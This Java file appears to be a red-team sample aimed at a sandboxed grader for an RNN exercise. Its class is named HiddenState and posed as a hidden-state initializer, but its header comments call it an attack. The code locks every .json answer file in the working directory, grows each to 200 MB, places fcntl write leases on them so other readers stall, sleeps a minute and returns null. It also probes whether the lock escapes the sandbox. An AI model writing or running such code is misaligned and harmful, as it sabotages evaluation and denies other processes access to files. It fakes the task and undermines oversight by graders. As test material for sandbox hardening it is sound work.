// attack: locks the files of its answers, takes a lease on them and makes them larger than anybody reads
// list: uses File
package org.rnnkit.step3state;

import ai.djl.ndarray.NDList;
import ai.djl.ndarray.NDManager;
import com.sun.jna.Function;
import java.io.File;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.util.ArrayList;
import java.util.List;

public final class HiddenState {

    private static final List<AutoCloseable> KEPT = new ArrayList<>();

    public static NDList initialize(NDManager manager, int batchSize, int numHiddens) throws IOException, InterruptedException {
        for (File answer : new File(".").listFiles((folder, name) -> name.endsWith(".json"))) {
            RandomAccessFile file = new RandomAccessFile(answer, "rw");
            KEPT.add(file);
            try {
                KEPT.add(file.getChannel().lock());
                throw new IllegalStateException("ESCAPED: a lock");
            } catch (IOException refused) {
                // As it should be.
            }
            file.setLength(200L << 20);
        }
        for (File answer : new File(".").listFiles((folder, name) -> name.endsWith(".json"))) {
            int file = Function.getFunction("c", "open").invokeInt(new Object[] {answer.getName(), 2});
            // 1024 and 1 are F_SETLEASE and F_WRLCK: whoever opens the file waits for its holder.
            Function.getFunction("c", "fcntl").invokeInt(new Object[] {file, 1024, 1});
        }
        Thread.sleep(60_000);
        return null;
    }
}
